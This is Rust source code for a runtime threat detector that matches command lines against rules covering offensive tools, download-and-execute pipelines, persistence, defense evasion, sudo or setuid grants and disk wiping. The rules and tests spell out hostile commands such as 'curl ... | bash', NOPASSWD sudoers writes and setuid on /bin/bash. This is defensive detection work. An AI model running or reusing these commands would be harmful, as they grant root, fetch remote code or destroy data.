//! Harrier detector `commands`: what command lines say.
//!
//! One pass over each execution's program name and arguments:
//!
//! - `Execution:Runtime/SuspiciousTool`: offensive tools (scanners, crackers,
//!   exploitation frameworks, tunnels, container-escape kits), by name.
//! - `Execution:Runtime/SuspiciousCommand`: download-and-execute pipelines
//!   (`curl ... | sh`), decoded payloads piped to a shell, interpreter
//!   one-liners opening sockets.
//! - `Discovery:Runtime/SuspiciousCommand`: SUID/capability hunting, cloud
//!   metadata probing, credential-store enumeration.
//! - `Persistence:Runtime/SuspiciousCommand`: SSH key planting, root-level
//!   accounts, `ld.so.preload`, shell start-up file tampering.
//! - `DefenseEvasion:Runtime/SuspiciousCommand`: disabling SELinux/AppArmor,
//!   firewalls or audit, history suppression, timestomping, immutable bits.
//! - `PrivilegeEscalation:Runtime/SuspiciousCommand`: sudo rights granted
//!   (sudoers written, `NOPASSWD`, sudo/wheel group membership), setuid bits
//!   or setuid capabilities given to a shell or interpreter.
//! - `Impact:Runtime/BulkDataRemoval`: shredding, disk wiping, removing `/`
//!   (Falco "Remove Bulk Data from Disk").
//!
//! Rules are (finding type, name, all-of substrings) matched ignoring ASCII
//! case, all found in one Aho-Corasick pass; the evidence quotes the command
//! line verbatim.

#![deny(missing_docs)]

use aho_corasick::AhoCorasick;
use harrier_sdk::matching::basename;
use harrier_sdk::{
    Detector, Event, EventDetail, EventKind, ExecEvent, Finding, FindingBuilder, FindingSpec,
    Metadata, Policy, config, finding, testing,
};
use serde::Deserialize;

/// An offensive tool ran.
pub const TOOL: FindingSpec = FindingSpec {
    finding_type: "Execution:Runtime/SuspiciousTool",
    severity: 6.0,
    title: "Suspicious tool executed",
    description: "An offensive security tool (scanner, password cracker, exploitation framework, tunnel, container-escape kit) was executed.",
    mitre: "T1588.002",
};
/// A download-and-execute or payload-decoding command ran.
pub const EXEC_CMD: FindingSpec = FindingSpec {
    finding_type: "Execution:Runtime/SuspiciousCommand",
    severity: 7.0,
    title: "Suspicious command executed",
    description: "A command downloads and runs code in one step, decodes a payload into a shell, or opens a socket from an interpreter one-liner.",
    mitre: "T1059.004",
};
/// A discovery command ran.
pub const DISCOVERY_CMD: FindingSpec = FindingSpec {
    finding_type: "Discovery:Runtime/SuspiciousCommand",
    severity: 5.0,
    title: "Suspicious discovery command executed",
    description: "A command hunts for SUID binaries or capabilities, probes the cloud metadata service or enumerates credential stores.",
    mitre: "T1083",
};
/// A persistence command ran.
pub const PERSISTENCE_CMD: FindingSpec = FindingSpec {
    finding_type: "Persistence:Runtime/SuspiciousCommand",
    severity: 7.0,
    title: "Suspicious persistence command executed",
    description: "A command plants SSH keys, creates root-equivalent accounts, writes ld.so.preload or tampers with shell start-up files.",
    mitre: "T1098.004",
};
/// A defense-evasion command ran.
pub const EVASION_CMD: FindingSpec = FindingSpec {
    finding_type: "DefenseEvasion:Runtime/SuspiciousCommand",
    severity: 6.0,
    title: "Suspicious defense-evasion command executed",
    description: "A command disables SELinux, AppArmor, the firewall or auditing, suppresses shell history, timestomps files or sets immutable bits.",
    mitre: "T1562.001",
};

/// A command that grants root: sudo rights, setuid shells.
pub const PRIVESC_CMD: FindingSpec = FindingSpec {
    finding_type: "PrivilegeEscalation:Runtime/SuspiciousCommand",
    severity: 7.0,
    title: "Suspicious privilege escalation command executed",
    description: "A command grants sudo rights (writes sudoers, NOPASSWD, adds a user to sudo or wheel) or gives a shell or interpreter the setuid bit or setuid capability.",
    mitre: "T1548",
};

/// Bulk data destruction.
pub const BULK_REMOVAL: FindingSpec = FindingSpec {
    finding_type: "Impact:Runtime/BulkDataRemoval",
    severity: 7.0,
    title: "Bulk data removal",
    description: "A command shreds files, wipes a disk or file system signatures, or removes the root file system (Falco: Remove Bulk Data from Disk).",
    mitre: "T1485",
};

/// Every finding type of this detector.
pub const SPECS: [FindingSpec; 7] = [
    TOOL,
    EXEC_CMD,
    DISCOVERY_CMD,
    PERSISTENCE_CMD,
    EVASION_CMD,
    BULK_REMOVAL,
    PRIVESC_CMD,
];

/// Programs that must never carry the setuid bit or `cap_setuid`: a root
/// shell for whoever runs them.
const ROOT_SHELL_PROGRAMS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "python", "python2", "python3", "perl",
    "ruby", "php", "node", "lua", "env", "find", "vim", "vi", "awk", "gawk", "less", "nmap",
    "tclsh", "expect",
];

/// Offensive tools by program name, with their category.
pub const TOOLS: &[(&str, &str)] = &[
    ("nmap", "network scanner"),
    ("masscan", "network scanner"),
    ("zmap", "network scanner"),
    ("rustscan", "network scanner"),
    ("nikto", "web scanner"),
    ("sqlmap", "web exploitation"),
    ("gobuster", "web scanner"),
    ("dirb", "web scanner"),
    ("ffuf", "web scanner"),
    ("wpscan", "web scanner"),
    ("hydra", "password cracker"),
    ("medusa", "password cracker"),
    ("john", "password cracker"),
    ("hashcat", "password cracker"),
    ("ncrack", "password cracker"),
    ("msfconsole", "exploitation framework"),
    ("msfvenom", "exploitation framework"),
    ("meterpreter", "exploitation framework"),
    ("sliver-client", "exploitation framework"),
    ("mimipenguin", "credential dumper"),
    ("lazagne", "credential dumper"),
    ("linpeas.sh", "privilege escalation scanner"),
    ("linpeas", "privilege escalation scanner"),
    ("linenum.sh", "privilege escalation scanner"),
    ("pspy", "process snooper"),
    ("pspy64", "process snooper"),
    ("chisel", "tunnel"),
    ("frpc", "tunnel"),
    ("ngrok", "tunnel"),
    ("iodine", "dns tunnel"),
    ("dnscat", "dns tunnel"),
    ("ligolo", "tunnel"),
    ("kube-hunter", "kubernetes attack tool"),
    ("peirates", "kubernetes attack tool"),
    ("deepce.sh", "container escape kit"),
    ("cdk", "container escape kit"),
    ("amicontained", "container discovery"),
    ("botb", "container escape kit"),
    ("responder", "credential capture"),
    ("impacket-secretsdump", "credential dumper"),
];

/// (finding spec, rule name, substrings that must all appear in the command line).
type Rule = (&'static FindingSpec, &'static str, &'static [&'static str]);

/// The command-line rules.
pub const RULES: &[Rule] = &[
    (&EXEC_CMD, "curl piped to shell", &["curl ", "| sh"]),
    (&EXEC_CMD, "curl piped to shell", &["curl ", "|sh"]),
    (&EXEC_CMD, "curl piped to shell", &["curl ", "| bash"]),
    (&EXEC_CMD, "curl piped to shell", &["curl ", "|bash"]),
    (&EXEC_CMD, "wget piped to shell", &["wget ", "| sh"]),
    (&EXEC_CMD, "wget piped to shell", &["wget ", "|sh"]),
    (&EXEC_CMD, "wget piped to shell", &["wget ", "| bash"]),
    (&EXEC_CMD, "wget piped to shell", &["wget ", "|bash"]),
    (
        &EXEC_CMD,
        "shell over command substitution download",
        &["sh -c \"$(curl"],
    ),
    (
        &EXEC_CMD,
        "shell over command substitution download",
        &["sh -c \"$(wget"],
    ),
    (&EXEC_CMD, "base64 payload to shell", &["base64 -d", "| sh"]),
    (
        &EXEC_CMD,
        "base64 payload to shell",
        &["base64 -d", "| bash"],
    ),
    (
        &EXEC_CMD,
        "base64 payload to shell",
        &["base64 --decode", "| bash"],
    ),
    (
        &EXEC_CMD,
        "python socket one-liner",
        &["python", "import socket", "connect("],
    ),
    (
        &EXEC_CMD,
        "perl socket one-liner",
        &["perl", "use socket", "connect("],
    ),
    (&EXEC_CMD, "php socket one-liner", &["php", "fsockopen("]),
    (&EXEC_CMD, "ruby socket one-liner", &["ruby", "tcpsocket"]),
    (
        &DISCOVERY_CMD,
        "SUID binary search",
        &["find ", "-perm -4000"],
    ),
    (
        &DISCOVERY_CMD,
        "SUID binary search",
        &["find ", "-perm -u=s"],
    ),
    (
        &DISCOVERY_CMD,
        "SUID binary search",
        &["find ", "-perm /4000"],
    ),
    (
        &DISCOVERY_CMD,
        "SGID binary search",
        &["find ", "-perm -2000"],
    ),
    (&DISCOVERY_CMD, "capability search", &["getcap -r /"]),
    (&DISCOVERY_CMD, "cloud metadata probe", &["169.254.169.254"]),
    (
        &DISCOVERY_CMD,
        "cloud metadata probe",
        &["metadata.google.internal"],
    ),
    (
        &DISCOVERY_CMD,
        "process environment harvesting",
        &["/proc/", "/environ"],
    ),
    (
        &DISCOVERY_CMD,
        "kubernetes permission probe",
        &["kubectl", "auth can-i"],
    ),
    (
        &DISCOVERY_CMD,
        "docker socket probe",
        &["docker.sock", "/containers/json"],
    ),
    (
        &PERSISTENCE_CMD,
        "SSH key planted",
        &[">> ", "authorized_keys"],
    ),
    (
        &PERSISTENCE_CMD,
        "SSH key planted",
        &[">>", "authorized_keys"],
    ),
    (
        &PERSISTENCE_CMD,
        "SSH key planted",
        &["tee -a", "authorized_keys"],
    ),
    (
        &PERSISTENCE_CMD,
        "root-equivalent account",
        &["useradd", "-o -u 0"],
    ),
    (
        &PERSISTENCE_CMD,
        "root-equivalent account",
        &["usermod", "-o -u 0"],
    ),
    (
        &PERSISTENCE_CMD,
        "account written to passwd",
        &["echo ", ">> /etc/passwd"],
    ),
    (&PERSISTENCE_CMD, "preload hijack", &["/etc/ld.so.preload"]),
    (
        &PERSISTENCE_CMD,
        "shell start-up tampering",
        &["echo ", ">> /etc/profile"],
    ),
    (
        &PERSISTENCE_CMD,
        "shell start-up tampering",
        &["echo ", ".bashrc"],
    ),
    (&EVASION_CMD, "SELinux disabled", &["setenforce 0"]),
    (&EVASION_CMD, "AppArmor disabled", &["aa-teardown"]),
    (
        &EVASION_CMD,
        "AppArmor disabled",
        &["systemctl", "stop apparmor"],
    ),
    (
        &EVASION_CMD,
        "audit disabled",
        &["systemctl", "stop auditd"],
    ),
    (&EVASION_CMD, "audit disabled", &["auditctl -e 0"]),
    (&EVASION_CMD, "audit disabled", &["auditctl -d"]),
    (
        &EVASION_CMD,
        "security agent stopped",
        &["systemctl", "stop falco"],
    ),
    (&EVASION_CMD, "firewall flushed", &["iptables -f"]),
    (&EVASION_CMD, "firewall flushed", &["iptables --flush"]),
    (&EVASION_CMD, "firewall disabled", &["ufw disable"]),
    (&EVASION_CMD, "history suppressed", &["unset histfile"]),
    (&EVASION_CMD, "history suppressed", &["histfile=/dev/null"]),
    (&EVASION_CMD, "history suppressed", &["history -c"]),
    (&EVASION_CMD, "timestomping", &["touch ", "-r "]),
    (&EVASION_CMD, "timestomping", &["touch ", "--reference"]),
    (&EVASION_CMD, "immutable bit", &["chattr ", "+i"]),
    (&EVASION_CMD, "kernel log wiped", &["dmesg -c"]),
    (&EVASION_CMD, "kernel log wiped", &["dmesg --clear"]),
    (&PRIVESC_CMD, "sudoers written", &["> /etc/sudoers"]),
    (&PRIVESC_CMD, "sudoers written", &[">/etc/sudoers"]),
    (&PRIVESC_CMD, "sudoers written", &["tee", "/etc/sudoers"]),
    (
        &PRIVESC_CMD,
        "passwordless sudo granted",
        &["nopasswd", "sudoers"],
    ),
    (&PRIVESC_CMD, "sudo group granted", &["usermod", "-ag sudo"]),
    (
        &PRIVESC_CMD,
        "sudo group granted",
        &["usermod", "-ag wheel"],
    ),
    (&PRIVESC_CMD, "sudo group granted", &["usermod", "-g sudo"]),
    (&PRIVESC_CMD, "sudo group granted", &["usermod", "-g wheel"]),
    (&PRIVESC_CMD, "sudo group granted", &["gpasswd -a", " sudo"]),
    (
        &PRIVESC_CMD,
        "sudo group granted",
        &["gpasswd -a", " wheel"],
    ),
    (&BULK_REMOVAL, "files shredded", &["shred "]),
    (
        &BULK_REMOVAL,
        "root file system removed",
        &["rm ", "--no-preserve-root"],
    ),
    (&BULK_REMOVAL, "root file system removed", &["rm -rf /*"]),
    (&BULK_REMOVAL, "disk wiped", &["dd ", "of=/dev/sd"]),
    (&BULK_REMOVAL, "disk wiped", &["dd ", "of=/dev/nvme"]),
    (&BULK_REMOVAL, "file system signatures wiped", &["wipefs "]),
];

/// The detector's own configuration keys.
#[derive(Debug, Default, Deserialize)]
#[serde(default, deny_unknown_fields)]
struct Own {
    /// More tool names (category "configured").
    extra_tools: Vec<String>,
    /// Tool names not to report (e.g. `nmap` on a scanner host).
    allowed_tools: Vec<String>,
}

/// The commands detector.
pub struct Commands {
    policy: Policy,
    own: Own,
    /// Reused buffer for the joined command line (verbatim).
    line: String,
    /// The rules, compiled for one pass over a command line.
    rules: CompiledRules,
}

/// [`RULES`] compiled into one Aho-Corasick automaton over every distinct
/// needle, so a command line is scanned once whatever the number of rules.
struct CompiledRules {
    /// Finds every needle at once.
    searcher: AhoCorasick,
    /// Per rule: its spec's index in [`SPECS`] and the bit mask of its needles.
    rules: Vec<(usize, u128)>,
}

impl CompiledRules {
    fn new() -> Result<Self, String> {
        let mut needles: Vec<&str> = Vec::new();
        let mut rules = Vec::with_capacity(RULES.len());
        for (spec, name, rule_needles) in RULES {
            let mut mask = 0u128;
            for n in *rule_needles {
                let id = match needles.iter().position(|x| x == n) {
                    Some(i) => i,
                    None => {
                        needles.push(n);
                        needles.len() - 1
                    }
                };
                if id >= 128 {
                    return Err(format!("rule `{name}`: more than 128 distinct needles"));
                }
                mask |= 1u128 << id;
            }
            let slot = SPECS
                .iter()
                .position(|s| s.finding_type == spec.finding_type)
                .ok_or_else(|| format!("rule `{name}`: type not in SPECS"))?;
            rules.push((slot, mask));
        }
        let searcher = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(&needles)
            .map_err(|e| e.to_string())?;
        Ok(Self { searcher, rules })
    }

    /// Bit mask of the needles present in `line`.
    fn found(&self, line: &str) -> u128 {
        self.searcher
            .find_overlapping_iter(line)
            .fold(0u128, |m, hit| m | 1u128 << hit.pattern().as_usize())
    }
}

/// `chmod` giving the setuid bit, or `setcap` giving `cap_setuid`/
/// `cap_sys_admin`, to a shell or interpreter: the rule that matched.
fn root_shell_grant(exec: &ExecEvent) -> Option<&'static str> {
    let program = basename(&exec.filename);
    let args = exec.args.get(1..).unwrap_or_default();
    let target = || {
        args.iter().any(|a| {
            let name = basename(a);
            let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
            !a.starts_with('-') && ROOT_SHELL_PROGRAMS.contains(&name)
        })
    };
    match program {
        "chmod" if args.iter().any(|a| setuid_mode(a)) && target() => {
            Some("setuid bit on a shell or interpreter")
        }
        "setcap"
            if args.iter().any(|a| {
                let a = a.to_ascii_lowercase();
                a.contains("cap_setuid") || a.contains("cap_sys_admin")
            }) && target() =>
        {
            Some("setuid capability on a shell or interpreter")
        }
        _ => None,
    }
}

/// Whether a chmod mode argument sets the setuid bit (`u+s`, `+s`, `4755`).
fn setuid_mode(mode: &str) -> bool {
    if mode.len() == 4 && mode.bytes().all(|b| (b'0'..=b'7').contains(&b)) {
        return matches!(mode.as_bytes()[0], b'4' | b'6');
    }
    mode.split(',').any(|clause| {
        let (who, op) = clause.split_at(clause.find(['+', '=']).unwrap_or(clause.len()));
        (who.is_empty() || who.contains(['u', 'a'])) && op.len() > 1 && op[1..].contains('s')
    })
}

impl Commands {
    fn tool(&self, exec: &ExecEvent) -> Option<(String, &'static str)> {
        let names = [
            basename(&exec.filename),
            exec.args.first().map(|a| basename(a)).unwrap_or(""),
        ];
        for name in names {
            if name.is_empty()
                || self
                    .own
                    .allowed_tools
                    .iter()
                    .any(|t| t.eq_ignore_ascii_case(name))
            {
                continue;
            }
            if let Some((_, cat)) = TOOLS.iter().find(|(t, _)| t.eq_ignore_ascii_case(name)) {
                return Some((name.to_string(), cat));
            }
            if self
                .own
                .extra_tools
                .iter()
                .any(|t| t.eq_ignore_ascii_case(name))
            {
                return Some((name.to_string(), "configured"));
            }
        }
        None
    }

    fn emit(&self, b: FindingBuilder, spec: &FindingSpec, event: &Event, out: &mut Vec<Finding>) {
        if self.policy.permits(spec.finding_type, &event.process, None) {
            out.push(b.build());
        }
    }
}

impl Detector for Commands {
    fn metadata() -> Metadata {
        finding::metadata(
            "commands",
            env!("CARGO_PKG_VERSION"),
            "Offensive tools by name and suspicious command lines (execution, discovery, persistence, defense evasion).",
            &[EventKind::Exec],
            &SPECS,
        )
    }

    fn new(config_json: &str) -> Result<Self, String> {
        let (policy, own): (Policy, Own) = config::parse(config_json)?;
        Ok(Self {
            policy,
            own,
            line: String::new(),
            rules: CompiledRules::new()?,
        })
    }

    fn on_event(&mut self, event: &Event, out: &mut Vec<Finding>) {
        let EventDetail::Exec(exec) = &event.detail else {
            return;
        };
        if let Some((name, category)) = self.tool(exec) {
            let b = FindingBuilder::new(&TOOL, event)
                .title(format!("Suspicious tool executed: {name}"))
                .evidence("tool_name", &name)
                .evidence("tool_category", category)
                .evidence("cmdline", exec.args.join(" "));
            self.emit(b, &TOOL, event, out);
        }
        // The command line, verbatim, in a buffer reused across events
        // (needles match ignoring case; evidence keeps what ran).
        self.line.clear();
        for (i, a) in exec.args.iter().enumerate() {
            if i > 0 {
                self.line.push(' ');
            }
            self.line.push_str(a);
        }
        let mut seen = [false; SPECS.len()];
        if let Some(rule) = root_shell_grant(exec) {
            seen[SPECS.len() - 1] = true;
            let b = FindingBuilder::new(&PRIVESC_CMD, event)
                .evidence("rule", rule)
                .evidence("command_line_example", &self.line);
            self.emit(b, &PRIVESC_CMD, event, out);
        }
        // One finding per type per execution: the first rule that matches.
        let found = self.rules.found(&self.line);
        if found == 0 {
            return;
        }
        for ((spec, name, _), &(slot, mask)) in RULES.iter().zip(&self.rules.rules) {
            if seen[slot] || found & mask != mask {
                continue;
            }
            seen[slot] = true;
            let b = FindingBuilder::new(spec, event)
                .evidence("rule", name)
                .evidence("command_line_example", &self.line);
            self.emit(b, spec, event, out);
        }
    }

    fn self_test() -> Result<(), String> {
        finding::validate_specs(&SPECS)?;
        testing::self_test::<Self>(
            "{}",
            include_str!("../../../fixtures/commands/detect.jsonl"),
            |_| {},
            &[
                TOOL.finding_type,
                EXEC_CMD.finding_type,
                DISCOVERY_CMD.finding_type,
                PERSISTENCE_CMD.finding_type,
                EVASION_CMD.finding_type,
                EVASION_CMD.finding_type,
                BULK_REMOVAL.finding_type,
                PRIVESC_CMD.finding_type,
            ],
        )
    }
}

harrier_sdk::export_detector!(Commands);

#[cfg(test)]
mod tests {
    use super::*;
    use harrier_sdk::testing::{medium_or_worse, types};

    harrier_sdk::detector_tests!(Commands);

    #[test]
    fn detects_every_type() {
        let f = run("{}", "commands/detect.jsonl");
        let pids: Vec<(u32, &str)> = f.iter().map(|f| (f.pid, f.finding_type.as_str())).collect();
        assert_eq!(
            pids,
            vec![
                (901, TOOL.finding_type),
                (902, EXEC_CMD.finding_type),
                (903, DISCOVERY_CMD.finding_type),
                (904, PERSISTENCE_CMD.finding_type),
                (905, EVASION_CMD.finding_type),
                (906, EVASION_CMD.finding_type),
                (907, BULK_REMOVAL.finding_type),
                (908, PRIVESC_CMD.finding_type),
            ]
        );
        assert!(f[0].title.ends_with("nmap"));
    }

    fn exec(pid: u32, args: &[&str]) -> harrier_sdk::Event {
        let text = format!(
            "{}\n{}",
            r#"{"harrier_capture":1,"wit":"0.1.0"}"#,
            serde_json::json!({"kind":"exec","pid":pid,"seq":pid,"time_ns":pid,
                "process":{"pid":pid,"tid":pid,"ppid":1,"uid":0,"euid":0,"gid":0,"egid":0,"comm":"x","exe":format!("/usr/bin/{}", args[0]),"container_id":null},
                "detail":{"Exec":{"filename":format!("/usr/bin/{}", args[0]),"args":args,"args_truncated":false,"cwd":"/","ld_preload":null,"ld_library_path":null,"file_mode":33261,"dev":1,"inode":2,"mtime_ns":3}}})
        );
        harrier_sdk::testing::parse_fixture(&text)
            .unwrap()
            .remove(0)
    }

    fn findings(events: &[harrier_sdk::Event]) -> Vec<Finding> {
        harrier_sdk::testing::Harness::<Commands>::new("{}")
            .unwrap()
            .run(events)
    }

    #[test]
    fn evidence_quotes_the_command_line_verbatim() {
        let line = "echo ZWNobyBIaQ== | BASE64 -d | sh";
        let f = findings(&[exec(1, &["sh", "-c", line])]);
        assert_eq!(types(&f), [EXEC_CMD.finding_type], "matched ignoring case");
        let example = f[0]
            .evidence
            .iter()
            .find(|e| e.key == "command_line_example");
        assert_eq!(example.unwrap().value, format!("sh -c {line}"));
    }

    #[test]
    fn commands_granting_root_are_privilege_escalation() {
        let grants = [
            exec(
                1,
                &[
                    "sh",
                    "-c",
                    "echo 'bob ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/bob",
                ],
            ),
            exec(2, &["usermod", "-aG", "sudo", "bob"]),
            exec(3, &["chmod", "4755", "/bin/bash"]),
            exec(4, &["setcap", "cap_setuid+ep", "/usr/bin/python3"]),
        ];
        for event in &grants {
            assert_eq!(
                types(&findings(std::slice::from_ref(event))),
                [PRIVESC_CMD.finding_type]
            );
        }
        let ordinary = [
            exec(5, &["chmod", "755", "/bin/bash"]),
            exec(6, &["chmod", "u+s", "/usr/local/bin/mytool"]),
            exec(7, &["ls", "/etc/sudoers.d/"]),
            exec(8, &["usermod", "-aG", "docker", "bob"]),
            exec(9, &["chmod", "g+s", "/srv/shared"]),
        ];
        assert!(findings(&ordinary).is_empty(), "{:#?}", findings(&ordinary));
    }

    #[test]
    fn rules_compile_and_match_all_of_their_needles() {
        let rules = CompiledRules::new().unwrap();
        let found = rules.found("curl -s http://x | bash");
        let (slot, mask) = rules.rules[RULES
            .iter()
            .position(|r| r.2 == ["curl ", "| bash"])
            .unwrap()];
        assert_eq!(SPECS[slot].finding_type, EXEC_CMD.finding_type);
        assert_eq!(found & mask, mask);
        assert_ne!(rules.found("curl -s http://x") & mask, mask);
    }

    #[test]
    fn every_rule_type_is_declared() {
        for (spec, name, needles) in RULES {
            assert!(
                SPECS.iter().any(|s| s.finding_type == spec.finding_type),
                "{name}"
            );
            assert!(
                needles.iter().all(|n| *n == n.to_ascii_lowercase()),
                "{name}: needles are written lower-case (matched ignoring case)"
            );
        }
    }

    #[test]
    fn configuration_cuts_noise() {
        let f = run(
            r#"{"allowed_tools":["nmap"],"disabled_types":["DefenseEvasion:Runtime/SuspiciousCommand"]}"#,
            "commands/detect.jsonl",
        );
        assert_eq!(types(&f).len(), 5, "{f:#?}");
        let f = run(r#"{"extra_tools":["ls"]}"#, "benign.jsonl");
        assert_eq!(
            f.iter()
                .filter(|f| f.finding_type == TOOL.finding_type)
                .count(),
            1
        );
        assert!(
            Commands::new(r#"{"extra_tool":[]}"#)
                .err()
                .unwrap()
                .contains("extra_tool")
        );
    }

    #[test]
    fn benign_workload_is_quiet() {
        let f = run("{}", "benign.jsonl");
        assert!(medium_or_worse(&f).is_empty(), "{:#?}", medium_or_worse(&f));
    }
}
